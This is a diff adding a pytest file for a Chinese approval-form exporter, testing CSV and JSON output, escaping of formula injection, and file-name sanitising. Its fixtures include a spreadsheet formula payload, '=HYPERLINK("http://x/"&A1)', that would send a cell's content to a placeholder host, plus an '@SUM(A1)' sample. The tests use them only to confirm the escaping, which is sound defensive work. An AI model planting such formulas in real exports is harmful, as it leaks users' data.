@@ -1,0 +1,141 @@
+"""Exports: a file that a spreadsheet opens, and cannot be made to run; JSON that loses nothing."""
+
+import csv
+import io
+import json
+from zoneinfo import ZoneInfo
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from consumers.approval import Approval
+from consumers.approval.export import BOM, escaped, file_name, write_csv, write_json
+from consumers.approval.reading import Wanted, count, table_columns
+from consumers.runtime.memory import MemoryRuntime
+from tests.unit.approval.office import Office, T, field, instance
+
+ZONE = ZoneInfo("Asia/Shanghai")
+EVIL = '=HYPERLINK("http://x/"&A1)'
+TABLE = json.dumps(
+    [
+        {"rowValue": [{"label": "名称", "value": "笔"}, {"label": "价格", "value": "-1.5"}]},
+        {"rowValue": [{"label": "名称", "value": "@SUM(A1)"}, {"label": "价格", "value": "2"}]},
+    ]
+)
+FORM = [
+    field("事由", EVIL),
+    field('["开始日期","结束日期"]', '["2024-11-11","2024-11-12"]', "DDDateRangeField"),
+    field("金额", "-12.50", "MoneyField"),
+    field("颜色", '["红","蓝"]', "DDMultiSelectField"),
+    field("收货人", "张三", "InnerContactField", ext_value='[{"emplId":"u1","name":"张三"}]'),
+    field("明细", TABLE, "TableField"),
+    field("发票", '[{"fileId":"9","fileName":"a.pdf"},{"fileId":"8","fileName":"b.pdf"}]', "DDAttachment"),
+    field("空", "null"),
+    field("备注", 'a "b",\n第二行'),
+]
+
+
+@pytest.fixture
+async def archive():
+    office = Office()
+    office.finish(form=FORM)
+    office.finish("pi-2", form=[field("事由", "二"), field("新字段", "x")])
+    office.finish("pi-3")
+    async with MemoryRuntime(Approval({}), dingtalk=office) as runtime:
+        for number, code in (("pi-1", "PROC-X"), ("pi-2", "PROC-X"), ("pi-3", "PROC-Y")):
+            assert (
+                await runtime.deliver(instance("finish", processInstanceId=number, processCode=code))
+            ).kind == "done"
+        assert (await runtime.deliver(instance("start", processInstanceId="pi-4", processCode="PROC-X"))).kind
+        yield runtime
+
+
+async def as_csv(archive, wanted, tables=None):
+    sink = io.StringIO(newline="")
+    await write_csv(archive.database.reader(), wanted, sink, ZONE, tables)
+    return sink.getvalue()
+
+
+def rows_of(text):
+    assert text.startswith(BOM)
+    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM), newline="")))
+
+
+async def test_a_row_for_each_approval_and_a_column_for_each_component(archive):
+    first, second = rows_of(await as_csv(archive, Wanted("PROC-X")))
+    assert list(first)[:3] == ["instance_id", "business_id", "title"]
+    assert (first["instance_id"], second["instance_id"]) == ("pi-1", "pi-2")
+    assert first["started_at"] == "2024-11-08 01:20:00"
+    assert first["开始日期 ~ 结束日期"] == "2024-11-11 ~ 2024-11-12"
+    assert (first["金额"], first["颜色"], first["收货人"]) == ("-12.50", "红; 蓝", "张三")
+    assert (first["发票"], first["空"], first["备注"]) == ("a.pdf; b.pdf", "", 'a "b",\n第二行')
+    assert json.loads(first["明细"]) == [{"名称": "笔", "价格": "-1.5"}, {"名称": "@SUM(A1)", "价格": "2"}]
+    assert (first["新字段"], second["新字段"], second["金额"]) == ("", "x", "")
+
+
+async def test_no_cell_can_be_run_as_a_formula(archive):
+    tables = {"明细": io.StringIO(newline="")}
+    first, _ = rows_of(await as_csv(archive, Wanted("PROC-X"), tables))
+    assert first["事由"] == "'" + EVIL
+    pen, sum_ = rows_of(tables["明细"].getvalue())
+    assert (pen["row"], pen["名称"], pen["价格"]) == ("1", "笔", "-1.5")
+    assert (sum_["instance_id"], sum_["名称"]) == ("pi-1", "'@SUM(A1)")
+
+
+@given(st.text())
+def test_an_escaped_text_begins_no_formula_and_holds_the_whole_text(text):
+    out = escaped(text)
+    assert out in (text, "'" + text)
+    if out[:1] in ("=", "@", "\t", "\r", "＝", "＠"):
+        raise AssertionError(out)
+    if out[:1] in ("+", "-"):
+        float(out.rstrip("%").replace(",", ""))
+
+
+@pytest.mark.parametrize("number", ["-1", "+8613800000000", "-1,234.50", "12%", "-3%"])
+def test_numbers_stay_numbers(number):
+    assert escaped(number) == number
+
+
+@given(st.text())
+def test_a_tables_name_leads_nowhere_as_part_of_a_files(name):
+    part = file_name(name)
+    assert part
+    assert not {"/", "\\", ".", "\0"} & set(part)
+
+
+async def test_json_has_every_value_parsed_and_loses_nothing(archive):
+    sink = io.StringIO()
+    assert await write_json(archive.database.reader(), Wanted("PROC-X"), sink) == 2
+    first, _ = json.loads(sink.getvalue())
+    form = {value["name"]: value for value in first["form"]}
+    assert form["事由"]["value"] == EVIL
+    assert form["金额"]["number"] == -12.5
+    assert form["颜色"]["parsed"] == ["红", "蓝"]
+    assert form['["开始日期","结束日期"]']["starts_at"] == "2024-11-10T16:00:00+00:00"
+    assert [[cell["value"] for cell in row] for row in form["明细"]["rows"]] == [
+        ["笔", "-1.5"],
+        ["@SUM(A1)", "2"],
+    ]
+    assert [task["task_id"] for task in first["tasks"]] == ["61056035232"]
+    assert [file["file_name"] for file in first["attachments"]] == ["b.pdf", "a.pdf"]
+    assert first["started_at"] == "2024-11-07T17:20:00+00:00"
+
+
+async def test_an_export_is_of_one_template_and_of_what_ended_in_the_time(archive):
+    from consumers.mirror.values import from_epoch_ms
+
+    db, end = archive.database.reader(), from_epoch_ms(T + 100_000)
+    assert await count(db, Wanted("PROC-X")) == 2
+    assert await count(db, Wanted("PROC-Y")) == 1
+    assert await count(db, Wanted("PROC-X", since=end)) == 2
+    assert await count(db, Wanted("PROC-X", until=end)) == 0
+    assert await table_columns(db, Wanted("PROC-X")) == {"明细": ["名称", "价格"]}
+    assert rows_of(await as_csv(archive, Wanted("PROC-Z"))) == []
+
+
+async def test_more_approvals_than_a_page_are_all_exported_once(archive, monkeypatch):
+    monkeypatch.setattr("consumers.approval.reading.PAGE", 1)
+    rows = rows_of(await as_csv(archive, Wanted("PROC-X")))
+    assert [row["instance_id"] for row in rows] == ["pi-1", "pi-2"]
